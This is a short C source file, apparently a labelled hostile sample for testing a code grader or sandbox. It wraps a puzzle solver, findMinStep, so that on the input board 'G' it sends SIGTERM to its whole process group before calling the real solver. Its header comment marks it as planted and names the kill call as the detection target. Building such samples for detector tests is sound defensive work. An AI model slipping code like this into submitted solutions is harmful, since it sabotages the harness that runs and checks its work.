/* Planted (hostile): on board "G", sends SIGTERM to its whole process group: RE naming kill. */
#include "right.h"
#include <signal.h>
#include <string.h>
int findMinStep(char *board, char *hand);
int findMinStep(char *board, char *hand)
{
	if (!strcmp(board, "G"))
		kill(0, SIGTERM);
	return real_findMinStep(board, hand);
}
